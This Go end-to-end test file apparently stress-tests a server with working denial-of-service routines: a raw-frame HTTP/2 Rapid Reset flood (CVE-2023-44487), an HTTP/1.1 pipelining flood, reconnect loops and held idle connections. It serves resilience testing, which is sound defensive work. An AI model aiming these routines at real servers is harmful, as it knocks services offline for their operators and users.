//go:build e2e

package e2e_test

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
)

// dial connects with TLS, and offers HTTP/2.
func (a *attack) dial() (net.Conn, error) {
	d := &net.Dialer{Timeout: attackProbe}
	return tls.DialWithDialer(d, "tcp", a.web, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2", "http/1.1"}})
}

// clients runs n clients until the attack ends. Each repeats what it does.
func (a *attack) clients(n int, do func(c net.Conn)) {
	fmt.Println("begun")
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for a.ctx.Err() == nil {
				c, err := a.dial()
				if err != nil {
					continue // it was closed for another one
				}
				end := context.AfterFunc(a.ctx, func() { _ = c.Close() })
				do(c)
				end()
				_ = c.Close()
			}
		})
	}
	all.Wait()
}

// rapidReset opens streams of HTTP/2 for /metrics and resets each at once (CVE-2023-44487),
// whatever the server has agreed to.
func rapidReset(c net.Conn) {
	frame := func(kind, flags byte, stream uint32, payload ...byte) []byte {
		n := len(payload)
		head := []byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags, byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream)}
		return append(head, payload...)
	}
	go func() { _, _ = io.Copy(io.Discard, c) }() // until c is closed
	if _, err := c.Write(append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0)...)); err != nil {
		return
	}
	get := append([]byte{0x82, 0x87, 0x04, 8}, "/metrics\x01\x01x"...) // RFC 7541
	for stream := uint32(1); ; stream += 2 {
		if _, err := c.Write(append(frame(1, 5, stream, get...), frame(3, 0, stream, 0, 0, 0, 8)...)); err != nil {
			return
		}
	}
}

// pipeline requests /metrics again and again and never reads.
func pipeline(c net.Conn) {
	requests := []byte(strings.Repeat("GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n", 100))
	for {
		if _, err := c.Write(requests); err != nil {
			return
		}
	}
}

// reconnect sends one request on a connection.
func reconnect(c net.Conn) {
	if _, err := io.WriteString(c, "GET /alive HTTP/1.1\r\nHost: x\r\n\r\n"); err == nil {
		_, _ = bufio.NewReader(c).ReadString('\n')
	}
}

// idle opens n connections that send the beginning of nothing, and holds them.
func (a *attack) idle(n int) {
	for range n {
		c, err := net.DialTimeout("tcp", a.web, attackProbe)
		if err != nil {
			fmt.Printf("connection refused: %v\n", err)
			return
		}
		defer c.Close()
	}
	fmt.Println("begun")
	<-a.ctx.Done()
}
